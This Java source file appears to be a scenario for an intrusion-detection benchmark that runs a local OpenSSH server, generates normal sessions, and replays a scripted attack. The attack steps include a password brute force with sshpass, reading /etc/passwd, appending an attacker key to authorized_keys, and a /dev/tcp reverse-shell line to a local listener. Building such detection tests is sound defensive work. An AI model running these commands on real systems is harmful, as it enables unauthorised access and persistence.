package dev.vigil.bench.scenario;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.TimeUnit;

/**
 * Debian's OpenSSH server (its own config, host key and port 22 in the namespace; PAM and
 * password authentication on, as Debian ships it) in a cgroup of its own, with a user the
 * scenario creates (and deletes). Normal: key-authenticated sessions running an operator's
 * everyday commands. Periodic job: SIGHUP (sshd re-executes itself to reload its config).
 * Restart: SIGTERM and start. Attack: a password brute force, a login with the guessed
 * password, discovery and credential commands, persistence (a key appended to the user's
 * authorized keys), a reverse shell.
 */
final class SshScenario implements Scenario {
    static final int PORT = 22, ATTACKER = 4444;
    static final String USER = "vigil-sc";
    private final String password = "summer" + (1000 + new Random().nextInt(9000));
    private Process sshd, listener;
    private boolean madeRunDir, madeUser;
    private Path key;

    public String name() { return "ssh"; }

    public String description() {
        return "OpenSSH server (Debian's, PAM and passwords on): a password brute force, a login, post-exploitation commands";
    }

    public String unavailable() {
        if (!Files.isExecutable(Path.of("/usr/sbin/sshd"))) return "openssh-server is not installed (apt-get install openssh-server)";
        if (!Files.isExecutable(Path.of("/usr/bin/sshpass"))) return "sshpass is not installed (apt-get install sshpass)";
        if (!Files.isExecutable(Path.of("/usr/bin/ssh"))) return "the ssh client is not installed (apt-get install openssh-client)";
        try {
            if (new ProcessBuilder("id", USER).start().waitFor() == 0) return "a user " + USER + " exists already (a scenario still running, or left behind: userdel " + USER + ")";
        } catch (IOException | InterruptedException e) {
            return "cannot run id: " + e.getMessage();
        }
        return null;
    }

    public void setUp(Env env) throws Exception {
        Path home = Files.createDirectories(env.dir().resolve("home"));
        run("useradd", "-M", "-d", home.toString(), "-s", "/bin/bash", USER);
        madeUser = true;
        run("sh", "-c", "echo '" + USER + ":" + password + "' | chpasswd");
        Files.writeString(home.resolve("notes.txt"), "backups at 02:00\ndisk check weekly\nrotate keys in spring\n".repeat(20));
        run("chown", "-R", USER + ":" + USER, home.toString());
        key = env.dir().resolve("id_ed25519");
        run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key.toString());
        run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", env.dir().resolve("ssh_host_ed25519_key").toString());
        Path keys = Files.createDirectories(env.dir().resolve("keys"));
        Files.copy(Path.of(key + ".pub"), keys.resolve(USER));
        run("chown", USER, keys.resolve(USER).toString());
        if (!Files.isDirectory(Path.of("/run/sshd"))) {
            Files.createDirectories(Path.of("/run/sshd"));
            madeRunDir = true;
        }
        Files.writeString(env.dir().resolve("sshd_config"), """
                Port %d
                ListenAddress 127.0.0.1
                HostKey %2$s/ssh_host_ed25519_key
                PidFile %2$s/sshd.pid
                AuthorizedKeysFile %2$s/keys/%%u
                UsePAM yes
                PasswordAuthentication yes
                KbdInteractiveAuthentication no
                PermitRootLogin no
                StrictModes no
                MaxStartups 100:30:200
                MaxAuthTries 3
                Subsystem sftp internal-sftp
                """.formatted(PORT, env.dir()));
        start(env);
        listener = env.listener(ATTACKER);
    }

    private static void run(String... cmd) throws IOException, InterruptedException {
        Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes());
        if (p.waitFor() != 0) throw new IllegalStateException(String.join(" ", cmd) + ": " + out.strip());
    }

    private void start(Env env) throws Exception {
        sshd = env.start(env.cgroup("sshd"), env.dir().resolve("sshd.log"), "/usr/sbin/sshd", "-D", "-e", "-f", env.dir().resolve("sshd_config").toString());
        for (int i = 0; i < 100; i++) {
            if (Traffic.banner(env, PORT).startsWith("SSH-2.0")) return;
            if (!sshd.isAlive()) break;
            Thread.sleep(100);
        }
        throw new IllegalStateException("sshd did not start: " + Files.readString(env.dir().resolve("sshd.log")));
    }

    private static final List<String> CLIENT = List.of("ssh", "-p", Integer.toString(PORT), "-o", "StrictHostKeyChecking=no", "-o",
            "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=10");

    private List<String> withKey(String command) {
        List<String> c = new ArrayList<>(CLIENT);
        c.addAll(List.of("-i", key.toString(), "-o", "BatchMode=yes", "-o", "PasswordAuthentication=no", USER + "@127.0.0.1", command));
        return c;
    }

    private static List<String> withPassword(String user, String password, String command) {
        List<String> c = new ArrayList<>(List.of("sshpass", "-p", password));
        c.addAll(CLIENT);
        c.addAll(List.of("-o", "PubkeyAuthentication=no", "-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1",
                user + "@127.0.0.1", command));
        return c;
    }

    private static final String[] COMMANDS = {"uptime", "df -h /", "ls -la", "date -u", "tail -n 3 notes.txt", "wc -l notes.txt",
        "grep -c backups notes.txt", "free -m", "cat /proc/loadavg", "du -sh ."};

    public Request normal(Random rnd) {
        String c = COMMANDS[rnd.nextInt(COMMANDS.length)];
        return new Request.Run(withKey(rnd.nextInt(4) == 0 ? c + "; " + COMMANDS[rnd.nextInt(COMMANDS.length)] : c));
    }

    public void periodic(Env env, int n) throws Exception {
        Env.exec("kill", "-HUP", Long.toString(sshd.pid())); // sshd re-executes itself with its arguments
        Thread.sleep(500);
    }

    public void restart(Env env) throws Exception {
        sshd.destroy();
        if (!sshd.waitFor(20, TimeUnit.SECONDS)) sshd.destroyForcibly().waitFor();
        env.kill(env.cgroup("sshd"));
        start(env);
    }

    public List<Step> attack() {
        return List.of(
                new Step("a password brute force: 12 wrong passwords for root, admin and " + USER, env -> {
                    String[] users = {"root", "admin", USER};
                    for (int i = 0; i < 12; i++) env.client(20, withPassword(users[i % 3], "guess" + i, "true").toArray(String[]::new));
                }),
                new Step("a login with the guessed password", env -> env.client(20, withPassword(USER, password, "true").toArray(String[]::new))),
                new Step("discovery and credentials: id; uname -a; cat /etc/passwd; ls ~/.ssh",
                        env -> env.client(20, withPassword(USER, password, "id; uname -a; cat /etc/passwd; ls -la ~/.ssh").toArray(String[]::new))),
                new Step("persistence: a key appended to the user's authorized keys",
                        env -> env.client(20, withPassword(USER, password, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyAttackerKeyAttackerKey0000 x' >> "
                                + env.dir().resolve("keys").resolve(USER)).toArray(String[]::new))),
                new Step("a reverse shell: bash connects to the attacker", env -> env.client(20, withPassword(USER, password,
                        "bash -c 'echo id > /dev/tcp/127.0.0.1/" + ATTACKER + "'").toArray(String[]::new))));
    }

    public void tearDown(Env env) throws IOException, InterruptedException {
        for (Process p : new Process[] {sshd, listener}) {
            if (p == null) continue;
            p.destroy();
            if (!p.waitFor(10, TimeUnit.SECONDS)) p.destroyForcibly();
        }
        env.kill(env.cgroup("sshd"));
        if (madeUser) Env.exec("userdel", USER);
        if (madeRunDir) Files.deleteIfExists(Path.of("/run/sshd"));
    }
}
